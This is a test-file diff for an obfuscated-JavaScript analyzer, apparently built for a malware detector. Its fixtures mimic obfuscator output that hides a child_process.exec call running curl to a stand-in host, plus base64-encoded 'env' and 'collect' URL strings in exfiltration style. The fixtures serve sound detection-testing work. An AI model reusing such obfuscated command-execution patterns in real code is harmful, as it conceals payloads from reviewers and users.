@@ -1,0 +1,83 @@
+import { describe, expect, it } from 'vitest';
+import { analyzeJavaScript } from '../../../src/detectors/javascript/analyze.js';
+
+const facts = (src: string) => analyzeJavaScript('t.js', src);
+/** javascript-obfuscator's base64 alphabet: standard base64 with the cases swapped, no padding. */
+const obfB64 = (s: string): string =>
+  Buffer.from(s)
+    .toString('base64')
+    .replace(/=+$/, '')
+    .replace(/[a-zA-Z]/g, (c) => (c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase()));
+
+/** Older javascript-obfuscator output: table, rotation IIFE, index decoder. */
+const OLD_STYLE = `
+var _0x4f2a = ['exec', 'child_process', 'curl\\x20https://example.invalid/p', 'log', 'hello'];
+(function (_0x1b2c3d, _0x4e5f6a) {
+  var _0x2a3b4c = function (_0x5c6d7e) {
+    while (--_0x5c6d7e) { _0x1b2c3d['push'](_0x1b2c3d['shift']()); }
+  };
+  _0x2a3b4c(++_0x4e5f6a);
+}(_0x4f2a, 0x2));
+var _0x3c4d = function (_0x1a2b3c, _0x4d5e6f) {
+  _0x1a2b3c = _0x1a2b3c - 0x0;
+  var _0x7a8b9c = _0x4f2a[_0x1a2b3c];
+  return _0x7a8b9c;
+};
+require(_0x3c4d('0x4'))[_0x3c4d('0x3')](_0x3c4d('0x0'));
+`;
+
+/** Newer output: the table inside a function, checksum-driven rotation (not emulated), base64 entries. */
+const NEW_STYLE = `
+function _0x1d2e() {
+  const _0x5b2c = ['${obfB64('child_process')}', '${obfB64('https://example.invalid/collect')}', 'exec', 'env', '9812lKqPwd', 'push'];
+  _0x1d2e = function () { return _0x5b2c; };
+  return _0x1d2e();
+}
+function _0x3a1f(_0x4b, _0x2c) {
+  const _0x1e = _0x1d2e();
+  return _0x3a1f = function (_0x5f, _0x6a) { _0x5f = _0x5f - 0x1a4; let _0x7b = _0x1e[_0x5f]; return _0x7b; }, _0x3a1f(_0x4b, _0x2c);
+}
+(function (_0x9c, _0x8d) {
+  const _0x7e = _0x3a1f, _0x6f = _0x9c();
+  while (!![]) {
+    try { const _0x5a = parseInt(_0x7e(0x1a8)) / 0x1; if (_0x5a === _0x8d) break; else _0x6f['push'](_0x6f['shift']()); }
+    catch (_0x4e) { _0x6f['push'](_0x6f['shift']()); }
+  }
+}(_0x1d2e, 0x2c3b1));
+`;
+
+describe('analyzeJavaScript: obfuscated code', () => {
+  it('resolves calls through an old-style rotated string table and its decoder', () => {
+    const f = facts(OLD_STYLE);
+    const call = f.calls.find((c) => c.callee === 'child_process.exec');
+    expect(call?.args[0]?.value).toBe('curl https://example.invalid/p');
+    expect(f.imports).toEqual([{ module: 'child_process', line: 14, scope: '<module>' }]);
+    expect(f.metrics.largestStringArray).toBe(5);
+    expect(f.metrics.obfuscatedIdentifiers).toBe(9);
+  });
+
+  it('records every entry of a string table and decodes its base64 entries', () => {
+    const f = facts(NEW_STYLE);
+    expect(f.metrics.largestStringArray).toBe(6);
+    expect(f.metrics.obfuscatedIdentifiers).toBeGreaterThanOrEqual(15);
+    const values = f.strings.map((s) => s.value);
+    expect(values).toEqual(expect.arrayContaining(['env', 'exec', 'push', 'child_process', 'https://example.invalid/collect']));
+    expect(f.decoded.map((d) => [d.steps, d.text])).toEqual([
+      [['base64'], 'child_process'],
+      [['base64'], 'https://example.invalid/collect'],
+    ]);
+  });
+
+  it('counts machine-generated identifiers, not minified ones', () => {
+    expect(facts(`var lIlIlI = 1, IlIlII = 2, O0O0OO = 3, a = 4, b = 5, ll = 6;`).metrics.obfuscatedIdentifiers).toBe(3);
+    expect(facts(`var διάβασε = 1, ㅤ = 2, π = 3;`).metrics.obfuscatedIdentifiers).toBe(2);
+    expect(facts(`function n(e,t){var r=e.a,o=t.b;return function(i){return r(i)+o}}`).metrics.obfuscatedIdentifiers).toBe(0);
+  });
+
+  it('measures string arrays without treating ordinary ones as tables', () => {
+    const f = facts(`const tags = ['div', 'span', 'a', 'p', 'ul', 'li'];`);
+    expect(f.metrics.largestStringArray).toBe(6);
+    expect(f.strings.map((s) => s.value)).toEqual(['span']);
+    expect(f.decoded).toEqual([]);
+  });
+});
